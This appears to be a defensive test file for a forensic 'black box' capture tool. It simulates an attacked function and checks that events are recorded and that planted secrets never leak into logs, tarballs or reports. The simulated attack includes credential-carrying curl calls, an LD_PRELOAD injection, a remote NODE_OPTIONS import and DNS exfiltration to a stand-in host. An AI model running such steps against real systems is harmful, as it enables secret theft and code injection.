/** The black box in a capture, as shipped: what it tells, that no secret leaves with it, and what an intruder does to it. */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, globSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join, resolve } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { promisify } from 'node:util';
import { generateX25519Identity, identityToRecipient } from 'age-encryption';
import { zstdDecompressSync } from 'node:zlib';
import { buildPackage } from '../built.ts';
import { builtAmber, type BuiltAmber } from '../cli/command-built.ts';

const run = promisify(execFile);
const folder = mkdtempSync(join(tmpdir(), 'amber-captured-'));
after(() => rmSync(folder, { recursive: true, force: true }));

/** One for each kind of event, so that a leak names its place. */
const secretOf = (kind: string): string => `${kind}${randomBytes(12).toString('hex')}`;
const KINDS = ['argv', 'variable', 'query', 'user', 'header', 'path', 'name', 'child', 'require', 'url'] as const;
const SECRETS = Object.fromEntries(KINDS.map((kind) => [kind, secretOf(kind)])) as Record<
  (typeof KINDS)[number],
  string
>;

const HANDLER = `
import { capture, withCapture } from ${JSON.stringify(resolve('dist/index.js'))};
import cp from 'node:child_process';
import dns from 'node:dns';
import fs from 'node:fs';
import http from 'node:http';
import { createRequire } from 'node:module';
process.chdir(process.env.HOME);
const S = JSON.parse(fs.readFileSync(process.argv[2], 'utf8'));
fs.unlinkSync(process.argv[2]);
const quiet = () => undefined;
export const handler = withCapture(async (event) => {
  if (event === 'idle') return;
  if (event === 'capture') return capture('test');
  cp.execSync('true --password=' + S.argv + '; curl_absent -H "Authorization: Bearer ' + S.header + '" https://bob:' + S.user + '@203.0.113.7/?token=' + S.query + ' || true', { stdio: 'ignore' });
  cp.spawnSync('true', ['--token', S.argv], { env: { LD_PRELOAD: '/tmp/x.so', NODE_OPTIONS: '--import https://u:' + S.child + '@203.0.113.7/x.mjs' } });
  process.env.HTTPS_PROXY = 'http://proxy:' + S.variable + '@203.0.113.7:3128';
  await new Promise((done) => http.get({ host: '127.0.0.1', port: 9, path: '/reset/' + S.path + '?token=' + S.query, auth: 'bob:' + S.user, headers: { 'x-api-key': S.header } }).on('error', done));
  await fetch('http://127.0.0.1:9/a/' + S.path + '?sig=' + S.query, { headers: { authorization: S.header } }).catch(quiet);
  const resolver = new dns.promises.Resolver({ timeout: 5, tries: 1 });
  resolver.setServers(['127.0.0.1:9']);
  await resolver.resolveTxt(S.name + '.exfil.example.com').catch(quiet);
  await import('data:text/javascript,export default "' + S.url + '"');
  await import('file:///tmp/absent.mjs?key=' + S.require).catch(quiet);
  fs.writeFileSync('late.cjs', '');
  createRequire(import.meta.url)(fs.realpathSync('late.cjs'));
  fs.unlinkSync('late.cjs');
  (0, eval)('globalThis.done = ' + JSON.stringify(S.url));
});
for (const event of ['idle', 'attack', ...Array(90).fill('idle')]) await handler(event, {});
const report = await handler('capture', {});
console.log(JSON.stringify({ state: report.state }));
`;

interface Captured {
  readonly out: string;
  readonly folder: string;
  /** All bytes of the tar stream. */
  readonly tar: string;
}

async function captured(env: Readonly<Record<string, string>>): Promise<Captured> {
  const place = mkdtempSync(join(folder, 'case-'));
  const script = join(place, 'handler.mjs');
  writeFileSync(script, HANDLER);
  // In a file that is gone when the capture begins: nothing of it stands in an environment to be learned from.
  const planted = join(place, 'planted.json');
  writeFileSync(planted, JSON.stringify(SECRETS));
  const { stdout, stderr } = await run(process.execPath, [script, planted], {
    env: {
      ...{ PATH: process.env['PATH'] ?? '', HOME: place, AWS_REGION: 'eu-central-1' },
      ...{ AMBER_DESTINATION: `file://${place}/out`, AMBER_WRITABLE: place, AMBER_CODE: place, AMBER_MAX_MS: '20000' },
      ...{ AMBER_COLLECT: '-code,-executables,-systeminformation,-writable,-served,-environment,-procfs' },
      ...env,
    },
    maxBuffer: 1 << 26,
  });
  const tars = globSync(`${place}/out/**/*.tar.zst`);
  const tar = tars.map((path) => zstdDecompressSync(readFileSync(path)).toString('latin1')).join('');
  return { out: stdout + stderr, folder: `${place}/out`, tar };
}

/** Kinds whose secret stands in a text; the environment at the start of the process is not what is tried here. */
function leaks(text: string): string[] {
  return KINDS.filter((kind) => text.includes(SECRETS[kind]));
}

describe('a capture of a function that was attacked', () => {
  let amber: BuiltAmber;
  let plain: Captured;
  before(async () => {
    buildPackage();
    amber = builtAmber();
    plain = await captured({});
  });

  test('tells in events.jsonl what happened, in order', () => {
    const rows = plain.tar
      .split('\n')
      // Other processes of the machine may have rings as well.
      .filter((line) => /^\{"ring":\d+,"time"/u.test(line))
      .map((line) => JSON.parse(line) as { kind: string; subject: string; argv?: string[] });
    const told = rows.map(({ kind, subject }) => `${kind} ${kind === 'module' ? basename(subject) : subject}`);
    for (const expected of [
      'spawn /bin/sh',
      'spawn true',
      'request GET http://127.0.0.1',
      'connect 127.0.0.1:9',
      'resolve example.com',
      'module late.cjs',
      'variable HTTPS_PROXY=http://203.0.113.7:3128',
    ])
      assert.ok(told.includes(expected), `${expected} in ${told.join('\n')}`);
  });

  test('holds no secret, in no output, for no kind of event', async () => {
    assert.deepEqual(leaks(plain.out), [], 'log');
    assert.deepEqual(leaks(plain.tar), [], 'tarball');
    const page = join(folder, 'report.html');
    for (const args of [
      ['timeline', plain.folder],
      ['show', plain.folder, '--lines', '500'],
      ['show', plain.folder, '--json'],
      ['report', plain.folder, '--to', page],
    ]) {
      const { out, err, code } = await amber(args);
      assert.equal(code, 0, err);
      assert.deepEqual(leaks(out + err), [], args.join(' '));
    }
    assert.ok(existsSync(page));
    assert.deepEqual(leaks(readFileSync(page, 'utf8')), [], 'page');
  });

  test('is told by timeline, show and report at the time of the event', async () => {
    const { out } = await amber(['timeline', plain.folder, '--source', 'recorded']);
    assert.match(out, /Child started: \/bin\/sh/u);
    const shown = await amber(['show', plain.folder]);
    assert.match(shown.out, /Black box/u);
  });

  test('has the ring raw where a recipient alone can open it', async () => {
    const identity = await generateX25519Identity();
    const sealed = await captured({ AMBER_RECIPIENT: await identityToRecipient(identity) });
    assert.deepEqual(leaks(sealed.out), [], 'log');
    assert.ok(globSync(`${sealed.folder}/**/*.age`).length > 0);
  });

  test('without the black box says that there is none', async () => {
    const off = await captured({ AMBER_RECORD: 'off' });
    assert.match(off.tar, /no process has a recorder/u);
  });
});
